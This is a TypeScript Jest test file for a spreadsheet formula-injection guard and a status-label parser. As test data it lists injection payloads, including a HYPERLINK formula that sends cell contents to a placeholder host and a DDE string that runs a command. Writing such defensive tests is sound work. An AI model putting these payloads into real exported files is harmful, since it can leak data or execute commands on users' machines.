import { looksLikeFormula } from "./formula-guard";
import { parseStatus } from "./status";

describe("formula guard (docs/reliability.md X1)", () => {
  it.each([
    '=HYPERLINK("http://x/?"&A1)',
    "=cmd|' /C calc'!A0",
    "@SUM(1)",
    "+1+1",
    "-2+3",
    "\t=1",
    "\r=1",
    " =1",
    "＝1",
    "\n=1",
  ])("treats %j as a formula", (s) => {
    expect(looksLikeFormula(s)).toBe(true);
  });

  it.each(["Ann", "王芳", "PR-0001", "a=b", "", "1+1"])("leaves %j alone", (s) => {
    expect(looksLikeFormula(s)).toBe(false);
  });
});

describe("status words", () => {
  it("reads labels in both languages and common spellings, and nothing else", () => {
    expect(["To do", "进行中", "done", "Canceled", "已取消", "blocked "].map(parseStatus)).toEqual([
      "todo",
      "doing",
      "done",
      "cancelled",
      "cancelled",
      "blocked",
    ]);
    expect(parseStatus("Approved")).toBeUndefined();
    expect(parseStatus("__proto__")).toBeUndefined();
    expect(parseStatus("constructor")).toBeUndefined();
  });
});
